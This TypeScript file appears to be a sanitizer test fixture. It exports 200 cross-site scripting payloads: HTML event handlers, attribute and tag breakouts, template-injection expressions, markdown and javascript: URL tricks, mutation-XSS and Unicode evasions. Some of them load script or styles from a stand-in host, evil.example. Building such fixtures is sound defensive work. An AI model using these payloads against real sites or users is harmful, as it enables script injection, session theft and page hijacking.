/** Texts that would run a script in a page that took them for more than text. */

/** What each tries to do; a test sees both. */
const RUN = "document.documentElement.dataset.xss=1,alert('xss')"

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src="https://evil.example/x.js"></ScRiPt>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>go</text></a></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<a href="javascript:${RUN}">go</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<template><script>${RUN}</script></template>`,
]

/** Ways out of where a text may stand: plain, an attribute, a comment, a title, a script. */
const WAYS_OUT = ['', `">`, `'>`, `--></title></textarea>`, `</script></style>`]

const TEMPLATES = [
  `{{constructor.constructor("${RUN}")()}}`,
  `{{_openBlock.constructor("${RUN}")()}}`,
  `{{$root.constructor.constructor("${RUN}")()}}`,
  `<p v-html="'<img src=x onerror=${RUN}>'"></p>`,
  `<div @vue:mounted="${RUN}"></div>`,
  `<component :is="'script'" text="${RUN}"></component>`,
  '${' + RUN + '}',
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
]

const MARKDOWN = [
  `[go](javascript:${RUN})`,
  `[go](JaVaScRiPt:${RUN})`,
  `[go](java&#x09;script:${RUN})`,
  `[go](&#106;avascript:${RUN})`,
  `[go](javascript&colon;${RUN})`,
  `[go](<javascript:${RUN}>)`,
  `[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[go](vbscript:${RUN})`,
  `![x](javascript:${RUN})`,
  `![x" onerror="${RUN}](https://pictures.example/x.png)`,
  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `[go](https://pictures.example "onmouseover=${RUN}")`,
  '```"><script>' + RUN + '</script>\ncode\n```',
  '`<img src=x onerror=' + RUN + '>`',
  `**<svg/onload=${RUN}>**`,
  `> <img src=x onerror=${RUN}>`,
  `1. <script>${RUN}</script>`,
  `# <iframe src=javascript:${RUN}>`,
  `[<img src=x onerror=${RUN}>](https://pictures.example/)`,
  `[go](https://pictures.example@evil.example/)`,
  `\\<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JAVASCRIPT:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://pictures.example/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://evil.example/0`,
  `filesystem:https://evil.example/x`,
  `view-source:https://evil.example`,
  `//evil.example/x.png`,
  `/\\evil.example/x.png`,
  `http://evil.example/x.png`,
  `https://a:b@evil.example/x.png`,
  `lightning:" onclick="${RUN}`,
  `bitcoin:'><script>${RUN}</script>`,
  `https://pictures.example/"onerror="${RUN}`,
]

/** Texts that change their meaning when a page is written and read again, and odd characters. */
const CHANGING = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<img alt="\`><img src=x onerror=${RUN}>">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!--><script>${RUN}</script>-->`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `‹script›${RUN}‹/script›`,
  `\u202e>tpircs/<${RUN}>tpircs<`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<img src=x o\u200bnerror=${RUN}>`,
  `\ufeff<script>${RUN}</script>`,
  `\ud800<img src=x onerror=${RUN}>`,
  `<ſcript>${RUN}</ſcript>`,
  `<a\u00a0href="javascript:${RUN}">go</a>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
]

const broken = ELEMENTS.flatMap((element) => WAYS_OUT.map((way) => way + element))

/** Two hundred of them, all different. */
export const PAYLOADS: readonly string[] = [
  ...broken,
  ...TEMPLATES,
  ...MARKDOWN,
  ...ADDRESSES,
  ...CHANGING,
]

/** A part of the texts, small enough for a field, as a list. `index` counts the parts. */
export function part(index: number, size: number): readonly string[] {
  const start = (index * size) % PAYLOADS.length
  return PAYLOADS.slice(start, start + size)
}
